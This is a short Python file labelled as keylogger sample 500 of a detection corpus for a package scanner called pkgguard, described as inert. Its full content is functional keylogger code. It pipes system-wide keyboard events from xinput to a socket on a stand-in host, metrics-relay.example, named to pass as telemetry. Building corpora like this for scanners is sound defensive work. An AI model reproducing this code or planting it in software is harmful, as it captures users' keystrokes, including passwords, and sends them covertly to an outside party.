# pkgguard corpus 500 (keylogger), modelled on [stealer-profile]; inert, never run.
import socket
import subprocess

proc = subprocess.Popen(["xinput", "test-xi2", "--root"], stdout=subprocess.PIPE, text=True)
conn = socket.create_connection(("metrics-relay.example", 7000))
for line in proc.stdout:
    if "detail:" in line:
        conn.send(line.encode())
